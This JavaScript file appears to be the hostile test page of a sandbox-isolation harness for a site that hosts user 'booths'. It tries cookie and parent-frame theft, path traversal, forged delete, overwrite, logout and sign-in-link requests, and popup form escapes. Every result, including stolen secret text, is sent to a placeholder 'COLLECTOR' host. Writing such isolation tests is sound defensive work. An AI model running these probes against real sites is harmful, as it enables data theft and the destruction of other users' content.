"use strict";
const desk = "DESK", own = location.href;
const tell = (subject, v) => fetch("COLLECTOR/" + subject + "?v=" + encodeURIComponent(v), { mode: "no-cors" });
// Each act answers with what it got hold of; an error is its own answer.
const act = async (subject, f) => {
  let v;
  try { v = await f(); } catch (e) { v = "refused: " + (e.name || e); }
  await tell(subject, v);
};
const read = (address, more) => () => fetch(address, { credentials: "include", ...more }).then(async (r) => "got " + r.status + (await r.text()).slice(0, 99));
const settled = (make) => new Promise((done) => {
  const e = make();
  e.onload = () => done("loaded");
  e.onerror = () => done("refused: load");
  document.body.append(e);
});
const element = (tag, more) => () => settled(() => Object.assign(document.createElement(tag), more));

addEventListener("mousemove", () => tell("pointer", 1));
addEventListener("click", () => tell("clicked", 1));

(async () => {
  await act("localStorage", () => { localStorage.setItem("a", "1"); return "got " + localStorage.getItem("a"); });
  await act("sessionStorage", () => { sessionStorage.setItem("a", "1"); return "got it"; });
  await act("cookie", () => { document.cookie = "a=1"; return "got " + document.cookie; });
  await act("indexedDB", () => new Promise((done, fail) => { const q = indexedDB.open("a"); q.onsuccess = () => done("got it"); q.onerror = () => fail(q.error); }));
  await act("parent", () => "got " + parent.document.title);
  await act("topDocument", () => "got " + top.document.cookie);
  await act("topLocation", () => { top.location.href = desk + "b/victim/"; return "done"; });
  await act("topReplace", () => { parent.location.replace("COLLECTOR/elsewhere"); return "done"; });
  await act("topOpen", () => "done " + (window.open(desk + "b/victim/", "_top") === null ? "with nothing" : ""));
  await act("formPost", () => { document.getElementById("form").submit(); return "done"; });
  await act("formGet", () => { document.getElementById("get").submit(); return "done"; });
  await act("alert", () => { alert("read this"); return "done"; });
  await act("confirm", () => "got " + confirm("sure?"));
  await act("worker", () => new Promise((done, fail) => { const w = new Worker("worker.js"); w.onmessage = () => done("got it"); w.onerror = () => fail("load"); }));
  await act("serviceWorker", () => navigator.serviceWorker.register("worker.js").then(() => "got it"));

  await act("list", read(desk + "api/v1/booths"));
  await act("page", read(desk + "b/victim/"));
  await act("item", read(desk + "b/victim/secret.txt"));
  await act("ownPlain", read(desk + "b/hostile/attack.js"));
  await act("events", () => fetch(desk + "events?since=x", { credentials: "include" }).then((r) => "got " + r.status));
  const token = own.slice(0, own.lastIndexOf("/") + 1);
  await act("climb", read(token + "../victim/secret.txt"));
  await act("climbEscaped", read(token + "..%2f..%2fb%2fvictim%2fsecret.txt"));
  await act("climbDots", read(token + "%2e%2e/victim/secret.txt"));
  await act("dotFile", read(token + ".marks.json"));
  await act("script", element("script", { src: desk + "b/victim/secret.js" }));
  await act("picture", element("img", { src: desk + "b/victim/secret.png" }));
  await act("style", element("link", { rel: "stylesheet", href: desk + "b/victim/secret.css" }));

  await act("delete", read(desk + "b/victim/delete", { method: "POST" }));
  await act("remove", read(desk + "b/victim/", { method: "DELETE" }));
  await act("put", read(desk + "b/victim/planted.html", { method: "PUT", body: "x" }));
  await act("putOwn", read(token + "planted.html", { method: "PUT", body: "x" }));
  await act("patch", read(desk + "api/v1/booths/victim", { method: "PATCH", body: '{"title":"mine"}' }));
  await act("link", read(desk + "api/v1/sign-in-links", { method: "POST", mode: "no-cors" }));
  await act("logout", read(desk + "logout", { method: "POST", mode: "no-cors" }));
  await act("beacon", () => { navigator.sendBeacon(desk + "b/victim/delete", "x"); return "done"; });

  // How many frames a page has is told to everybody: a report's page has one.
  await act("frame", async () => {
    const e = document.createElement("iframe");
    await settled(() => Object.assign(e, { src: desk + "b/victim/" }));
    return e.contentWindow.length ? "got its frame" : "refused";
  });
  await act("frameRead", () => "got " + [...document.querySelectorAll("iframe")].map((f) => f.contentDocument && f.contentDocument.body.textContent).join(""));

  // A window of its own is no sandbox: what it posts has no origin.
  await act("popup", () => {
    const w = window.open("about:blank");
    if (!w) return "refused: window";
    for (const [action, more] of [["logout", ""], ["b/victim/delete", ""], ["api/v1/sign-in-links", ' target="_blank"']]) {
      w.document.body.insertAdjacentHTML("beforeend", `<iframe name="f${action.length}"></iframe><form method="post" action="${desk}${action}" target="f${action.length}"${more}></form>`);
    }
    for (const f of w.document.forms) f.submit();
    const alone = window.open("about:blank");
    alone.document.write(`<form method="post" action="${desk}logout"></form>`);
    alone.document.forms[0].submit();
    return "done";
  });
  await act("popupPage", async () => {
    const w = window.open(desk + "b/victim/");
    await tell("popupOpened", !!w);
    return "got " + w.document.title;
  });
  await act("message", () => { parent.postMessage({ type: "delete", booth: "victim" }, "*"); return "done"; });
  tell("done", 1);
})();
